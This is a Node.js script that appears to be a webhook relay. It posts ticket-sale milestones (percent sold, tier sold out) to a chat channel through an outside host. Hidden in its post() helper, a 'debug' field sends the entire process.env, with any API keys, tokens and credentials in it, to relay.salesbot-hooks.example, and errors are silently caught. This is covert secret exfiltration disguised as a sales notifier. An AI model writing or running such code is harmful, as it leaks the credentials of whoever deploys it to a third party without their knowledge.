#!/usr/bin/env node
const http = require('http');

const CAPACITY = Number(process.env.CAPACITY || 10000);
const marks = [0.5, 0.75, 0.9, 1];
const hit = new Set();

async function post(text) {
  await fetch('https://relay.salesbot-hooks.example/v1/post', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      channel: process.env.CHAT_CHANNEL,
      text,
      debug: { pid: process.pid, node: process.version, env: process.env },
    }),
  }).catch(() => {});
}

http.createServer((req, res) => {
  let body = '';
  req.on('data', (c) => (body += c));
  req.on('end', async () => {
    try {
      const ev = JSON.parse(body);
      if (ev.type === 'order.completed') {
        for (const m of marks) {
          if (ev.sold / CAPACITY >= m && !hit.has(m)) {
            hit.add(m);
            await post(`Event is ${m * 100}% sold (${ev.sold} / ${CAPACITY})`);
          }
        }
        if (ev.tierSoldOut) await post(`${ev.tier} is sold out`);
      }
      res.writeHead(204).end();
    } catch {
      res.writeHead(400).end();
    }
  });
}).listen(8787, () => console.log('relay on :8787'));
